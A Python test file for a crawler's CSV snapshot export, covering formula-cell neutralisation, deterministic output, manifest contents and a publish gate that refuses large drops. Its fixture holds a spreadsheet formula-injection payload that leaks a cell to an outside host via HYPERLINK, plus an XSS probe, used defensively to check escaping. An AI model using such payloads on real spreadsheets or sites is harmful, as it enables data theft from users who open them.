"""CSV snapshots: deterministic bytes, formula cells neutralised, manifest, and the publish gate."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import shutil

import pytest

from crawler.cli import main
from crawler.snapshot import SnapshotExistsError, SnapshotRefusedError, neutralise, write_snapshot
from crawler.storage import open_database, start_run, store_batch
from tests.test_publish_db import build_research_db


def build_db(path):
    db = open_database(path)
    start_run(db, {"id": "r1", "started_at": "2026-05-01T06:00:00+00:00"})
    item = {
        "id": "evil.example", "url": "https://evil.example/", "seed_url": "https://evil.example/",
        "name": '=HYPERLINK("http://x/?"&A1,"click")', "description": "@SUM(1+1) <script>alert(1)</script>",
        "status": "alive", "languages": ["en"], "metrics": {"members": 5},
        "evidence": {"members": {"source_url": "https://evil.example/", "rule": "generic.text",
                                 "snippet": "-5 members", "approximate": True,
                                 "observed_at": "2026-05-01T06:00:00+00:00"}},
        "observed_at": "2026-05-01T06:00:00+00:00",
    }  # fmt: skip
    store_batch(db, "r1", "2026-05-01T06:00:00+00:00", [item], [])
    db.close()


@pytest.fixture
def research_db(tmp_path):
    path = tmp_path / "r.db"
    build_research_db(path)
    return path


def test_neutralise():
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("+33 1") == "'+33 1"
    assert neutralise("-x") == "'-x"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\t=1") == "'\t=1"
    assert neutralise("\r=1") == "'\r=1"
    assert neutralise("Club") == "Club"
    assert neutralise(-5) == -5
    assert neutralise(None) is None


def test_snapshot_is_deterministic_and_neutralised(tmp_path):
    build_db(tmp_path / "c.db")
    first = write_snapshot(tmp_path / "c.db", tmp_path / "a", date="2026-11-28")
    second = write_snapshot(tmp_path / "c.db", tmp_path / "b", date="2026-11-28")
    first_bytes = {p.name: p.read_bytes() for p in first.iterdir()}
    with pytest.raises(SnapshotExistsError, match="a snapshot dated 2026-11-28 already exists in .*; use --replace"):
        write_snapshot(tmp_path / "c.db", tmp_path / "a", date="2026-11-28")
    again = write_snapshot(tmp_path / "c.db", tmp_path / "a", date="2026-11-28", replace=True)  # rerun, same folder
    assert first.name == "2026-11-28"
    names = sorted(p.name for p in again.iterdir())
    assert names == sorted(p.name for p in second.iterdir()) == sorted(first_bytes)
    for name in names:
        assert first_bytes[name] == (second / name).read_bytes() == (again / name).read_bytes(), name
    communities = (first / "communities.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in communities
    assert "'@SUM(1+1)" in communities
    assert sorted(p.name for p in (tmp_path / "a").iterdir()) == ["2026-11-28"]  # no partial folder left


def test_manifest(research_db, tmp_path):
    folder = write_snapshot(research_db, tmp_path / "s", date="2026-09-02")
    manifest = json.loads((folder / "manifest.json").read_text(encoding="utf-8"))
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [f"{table}.csv" for table in manifest["tables"]] + ["manifest.json"]
    )
    assert set(manifest["tables"]) >= {"communities", "observations", "evidence", "runs", "fetch_errors", "run_sites"}
    for table, entry in manifest["tables"].items():
        data = (folder / entry["file"]).read_bytes()
        assert entry["sha256"] == hashlib.sha256(data).hexdigest(), table
        assert b"\r\n" not in data
        parsed = list(csv.reader(io.StringIO(data.decode("utf-8"))))
        assert parsed[0] == entry["columns"] and len(parsed) - 1 == entry["rows"], table
    assert manifest["tables"]["communities"]["rows"] == 10
    assert manifest["schema_version"] == 11  # migrations applied (tests/test_migrations.py lists them)
    assert manifest["schema_migration"] == "0020_state_reason"
    assert manifest["tool_version"] == "0.1.0"
    assert manifest["totals"] == {"communities": 10, "communities_alive": 6, "members_alive": 406000}
    assert manifest["canaries"] == {"montreal.example": "alive"}
    assert manifest["gate"] == {"previous_snapshot": None, "max_change_percent": 15, "forced": False,
                                "refusals_overridden": []}  # fmt: skip
    coverage = manifest["coverage"]
    assert coverage["run_id"] == "r3"
    assert (coverage["reached"], coverage["blocked_by_robots"], coverage["opted_out"], coverage["unreachable"]) == (
        6, 1, 1, 1,
    )  # fmt: skip
    assert coverage["failed_by_error_kind"] == {"dns": 1, "http_410": 1, "opted_out": 1, "robots": 1, "timeout": 1}
    rows = list(csv.DictReader(io.StringIO((folder / "communities.csv").read_text(encoding="utf-8"))))
    assert [row["id"] for row in rows] == sorted(row["id"] for row in rows)
    assert next(row for row in rows if row["id"] == "montreal.example")["name"] == (
        "Club d'échange linguistique de Montréal"
    )


def shrink(db_path, sql):
    db = open_database(db_path)
    db.execute(sql)
    db.close()


def test_gate_refuses_a_members_drop_unless_forced(research_db, tmp_path):
    out = tmp_path / "s"
    write_snapshot(research_db, out, date="2026-09-02")
    shrink(research_db, "UPDATE communities SET members = 12000 WHERE id = 'polyglot.example'")
    with pytest.raises(SnapshotRefusedError) as refused:
        write_snapshot(research_db, out, date="2026-09-09")
    assert str(refused.value) == (
        "snapshot refused: total members moved -26.6 % since the 2026-09-02 snapshot (406,000 → 298,000). "
        "Use --force to publish it anyway."
    )
    assert not (out / "2026-09-09").exists()
    forced = write_snapshot(research_db, out, date="2026-09-09", force=True)
    gate = json.loads((forced / "manifest.json").read_text(encoding="utf-8"))["gate"]
    assert gate == {
        "previous_snapshot": "2026-09-02", "max_change_percent": 15, "forced": True,
        "refusals_overridden": ["total members moved -26.6 % since the 2026-09-02 snapshot (406,000 → 298,000)"],
    }  # fmt: skip
    # The forced snapshot is the new baseline: the next one passes.
    write_snapshot(research_db, out, date="2026-09-16")


def test_gate_refuses_a_community_count_change(research_db, tmp_path):
    write_snapshot(research_db, tmp_path / "s", date="2026-09-02")
    shrink(research_db, "UPDATE communities SET status = 'unreachable' WHERE id IN ('small.example', 'evil.example')")
    with pytest.raises(SnapshotRefusedError, match=r"alive community count moved -33\.3 % .*\(6 → 4\)"):
        write_snapshot(research_db, tmp_path / "s", date="2026-09-09")


def test_gate_allows_small_changes(research_db, tmp_path):
    write_snapshot(research_db, tmp_path / "s", date="2026-09-02")
    shrink(research_db, "UPDATE communities SET members = 100000 WHERE id = 'polyglot.example'")  # -4.9 %
    write_snapshot(research_db, tmp_path / "s", date="2026-09-09")


def test_gate_refuses_a_lost_canary(research_db, tmp_path):
    write_snapshot(research_db, tmp_path / "s", date="2026-09-02")
    shrink(research_db, "UPDATE communities SET status = 'unreachable' WHERE id = 'montreal.example'")
    with pytest.raises(SnapshotRefusedError) as refused:
        write_snapshot(research_db, tmp_path / "s", date="2026-09-09")
    assert "canary lost: montreal.example (unreachable)" in str(refused.value)
    shrink(research_db, "DELETE FROM communities WHERE id = 'montreal.example'")
    with pytest.raises(SnapshotRefusedError, match=r"canary lost: montreal\.example \(absent\)"):
        write_snapshot(research_db, tmp_path / "s", date="2026-09-09")
    # Forced once, the loss is recorded; later snapshots are not refused for it again.
    write_snapshot(research_db, tmp_path / "s", date="2026-09-09", force=True)
    write_snapshot(research_db, tmp_path / "s", date="2026-09-16")


def test_cli_snapshot_gate_exit_status(research_db, tmp_path, capsys):
    out = tmp_path / "s"
    write_snapshot(research_db, out, date="2000-01-01")
    shutil.copytree(out / "2000-01-01", out / "1999-12-31")
    shrink(research_db, "UPDATE communities SET members = 1 WHERE id = 'polyglot.example'")
    assert main(["snapshot", "--db", str(research_db), "--out", str(out)]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert err.startswith(
        "tremplin: error: snapshot refused: total members moved -29.6 % since the 2000-01-01 snapshot"
    )
    assert main(["snapshot", "--db", str(research_db), "--out", str(out), "--force"]) == 0
    assert "snapshot written to" in capsys.readouterr().out


def test_snapshot_publishes_no_server_path(tmp_path):
    db = open_database(tmp_path / "p.db")
    start_run(
        db,
        {
            "id": "r1",
            "started_at": "2026-05-01T06:00:00+00:00",
            "replay_archive": "/srv/tremplin/archives/sample_web.warc.gz",
            "jobdir": "/var/lib/tremplin/job",
        },
    )
    db.close()
    folder = write_snapshot(tmp_path / "p.db", tmp_path / "s", date="2026-05-02", force=True)
    [row] = list(csv.DictReader(io.StringIO((folder / "runs.csv").read_text(encoding="utf-8"))))
    assert (row["replay_archive"], row["jobdir"]) == ("sample_web.warc.gz", "job")
    assert "/srv/" not in "".join(p.read_text(encoding="utf-8") for p in folder.glob("*.csv"))
